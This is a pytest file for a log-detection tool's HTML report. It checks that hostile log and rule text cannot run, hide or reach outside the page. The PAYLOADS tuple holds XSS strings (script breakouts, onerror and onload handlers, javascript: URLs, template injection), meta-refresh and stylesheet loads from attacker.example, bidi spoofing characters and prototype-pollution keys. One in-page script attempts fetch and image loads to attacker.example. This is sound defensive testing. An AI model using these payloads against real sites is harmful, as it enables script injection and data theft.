"""Reports of hostile logs and rules in a real browser: nothing of them runs, hides or leads out."""

import base64
import json
import re
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.browser.watched import WatchedPage
from tests.cli.findings import finding
from tests.cli.report.making import hit, rule_of, write_report
from tocsin.cli.output.visible import visible
from tocsin.core.entity import Entity
from tocsin.core.errors import DamagedInput
from tocsin.core.location import Location
from tocsin.detection.details import Step
from tocsin.node import Tally

Open = Callable[..., WatchedPage]

RUN = "window.__owned = true; alert(1)"
PAYLOADS = (
    f"</script><script>{RUN}</script>",
    f"</style></title></noscript><svg onload='{RUN}'>",
    f"<!--<script>{RUN}",
    f"--><img src=x onerror='{RUN}'>",
    f"]]><iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"\u2028{RUN}\u2029//",
    f"javascript:{RUN}",
    f"'\"><a href='javascript:{RUN}'>x</a>",
    f"${{{RUN}}}{{{{constructor.constructor('{RUN}')()}}}}",
    "<base href='https://attacker.example/'><link rel=stylesheet href=//attacker.example/x.css><meta http-equiv=refresh content='0;url=//attacker.example'>",
    "url(//attacker.example/x.png); background: url(//attacker.example/y.png)",
    "\u202egnp.exe\u202c\u2066x\u2069\u200b\u0000\u001b[31m\ud800",
    "__proto__",
    "constructor",
)
EVERYTHING = " ".join(PAYLOADS)


def hostile_event() -> dict[str, Any]:
    return {
        **{payload: payload for payload in PAYLOADS},
        "CommandLine": f"mimikatz {EVERYTHING}",
        "list": list(PAYLOADS),
        "__proto__": {"toString": EVERYTHING},
        "numbers": [1e308, -0.0, 2**63, 10**30],
    }


@pytest.fixture
def page(tmp_path: Path, open_page: Open) -> WatchedPage:
    """Open a report in which every text that anybody else may write is hostile."""
    hits, rules = [], []
    for number, payload in enumerate(PAYLOADS):
        one = finding(
            title=payload,
            rule_id=f"{number} {payload}",
            level="critical",
            tags=(f"attack.{payload}", "attack.execution", f"attack.t1059.001{payload}"),
            matched={"CommandLine": f"mimikatz {EVERYTHING}", payload: payload},
            entities=(Entity("host", payload), Entity("user", payload), Entity("file", EVERYTHING)),
            source=payload,
            position=number,
        )
        step = Step(
            "test", "true", payload, payload, payload, payload, payload, (payload, "CommandLine"), payload.lower()
        )
        hits.append(hit(one, hostile_event(), step, number))
        changed = {
            "description": EVERYTHING,
            "author": payload,
            "references": PAYLOADS,
            "falsepositives": PAYLOADS,
            "path": payload,
        }
        rules.append(rule_of(one, **changed))
    tally = Tally(events=9, inputs=1, skipped=list(PAYLOADS))
    tally.add_unknown(PAYLOADS, 3)
    tally.log_types[EVERYTHING] = 7
    tally.lost.append(DamagedInput(EVERYTHING, location=Location(EVERYTHING), remedy=EVERYTHING))
    file = write_report(tmp_path / "report.html", hits, tuple(rules), tally=tally, inputs=PAYLOADS, rules=PAYLOADS)
    return open_page(file)


def owned(page: WatchedPage) -> bool:
    return bool(
        page.page.evaluate("Boolean(window.__owned) || Object.prototype.toString.call({}) !== '[object Object]'")
    )


def test_nothing_of_a_hostile_log_runs_or_leads_out(page: WatchedPage) -> None:
    for _ in PAYLOADS:
        page.press("Enter")
        page.page.wait_for_selector(".detail:not([hidden]) .json")
        page.press("Escape", "j")
    page.press("v", "s", "i", "Escape", "?", "Escape", "t", "/")
    page.page.keyboard.type("<script>")
    page.press("Enter", "x")
    page.page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
    page.page.locator(".facet li button").first.click()
    page.page.evaluate("window.dispatchEvent(new Event('beforeprint'))")
    page.settle()
    assert page.told() == []
    assert not owned(page)
    assert page.page.url.startswith("file:")
    foreign = "iframe, object, embed, img, a, link, base, form, svg[onload], script:not([id]) ~ script:not([id])"
    assert page.page.locator(foreign).count() == 0


def test_what_could_hide_or_reorder_is_shown_as_on_the_terminal(page: WatchedPage) -> None:
    page.press("Enter")
    page.page.wait_for_selector(".detail .json")
    shown = page.page.evaluate("document.getElementById('app').textContent")
    assert visible(shown) == shown
    hits = page.page.locator(".json .esc").all_inner_texts()
    assert {"\\u202e", "\\u200b", "\\x1b", "\\u2028"} <= set(hits)


def test_the_page_and_the_terminal_agree_on_every_character(page: WatchedPage) -> None:
    """Shown as they are on the page: the title of a rule of each character that is not a lone surrogate."""
    points = [
        code
        for code in (*range(0x3100), *range(0xD800, 0x10000), *range(0xE0000, 0xE0100))
        if not 0xD800 <= code < 0xE000
    ]
    script = re.search(r'modules\["text.js"\] = (\(\(\) => \{.*?\n\}\)\(\));', _html(page), re.DOTALL)
    assert script
    # Only the browser's own console may run texts: the page's policy allows no `eval`.
    texts = page.page.evaluate(
        f"(points) => {{ const text = {script[1]}; return points.map((point) => text.visible(String.fromCodePoint(point))); }}",
        points,
    )
    assert [(hex(code), text) for code, text in zip(points, texts, strict=True) if text != visible(chr(code))] == []


def test_no_text_of_a_log_is_in_the_markup(page: WatchedPage) -> None:
    """What is between the data blocks is ours and the same whatever was found, but for the title."""
    html = _html(page)
    assert RUN not in re.sub(r"<title>.*?</title>", "", html)
    title = re.search(r"<title>(.*?)</title>", html)
    assert title
    assert "<" not in title[1]
    blocks = re.findall(r'<script type="text/plain" id="[\w-]+">(.*?)</script>', html, re.DOTALL)
    assert len(blocks) == 3
    assert all(re.fullmatch(r"[A-Za-z0-9+/]+=*", block) for block in blocks)
    assert RUN in json.dumps(json.loads(zlib.decompress(base64.b64decode(blocks[-1]))), ensure_ascii=False)


def test_the_policy_allows_nothing_but_what_is_there(page: WatchedPage) -> None:
    """Whoever finds a way to put markup into the page still cannot run it, send anything, or load anything."""
    html = _html(page)
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', html)
    assert policy
    assert policy[1].startswith("default-src &#x27;none&#x27;")
    assert "unsafe" not in policy[1]
    refused = page.page.evaluate(
        """async () => {
            const failed = [];
            const attempt = async (name, act) => { try { await act(); } catch { failed.push(name); } };
            await attempt("markup", () => { document.body.innerHTML += "<b>x</b>"; });
            await attempt("fetch", () => fetch("https://attacker.example/"));
            const script = document.createElement("script");
            await attempt("script text", () => { script.textContent = "window.__owned = true"; });
            document.body.append(script);
            const image = document.createElement("img");
            await attempt("image", () => new Promise((done, fail) => {
              image.onload = done; image.onerror = fail; image.src = "https://attacker.example/x.png";
            }));
            return failed;
        }"""
    )
    assert refused == ["markup", "fetch", "script text", "image"]
    assert not owned(page)


def test_huge_and_deep_values_are_cut_and_stay_usable(tmp_path: Path, open_page: Open) -> None:
    deep: Any = "bottom"
    for _ in range(300):
        deep = {"a": [deep]}
    event = {"CommandLine": "mimikatz " + "x" * 20_000, "deep": deep, "many": list(range(5_000))}
    one = finding(title="T" * 5_000, matched={"CommandLine": event["CommandLine"]})
    page = open_page(
        write_report(tmp_path / "report.html", [hit(one, event)], (rule_of(one, description="d" * 60_000),))
    )
    page.press("Enter")
    page.page.wait_for_selector(".detail .json")
    assert page.page.locator(".jl").count() <= 3_001
    line = page.page.locator(".jl", has_text="CommandLine")
    assert len(line.inner_text()) < 3_000
    line.get_by_role("button").click()
    assert len(line.inner_text()) > 20_000
    assert page.page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    assert page.told() == []


def _html(page: WatchedPage) -> str:
    return page.file.read_text(encoding="utf-8")
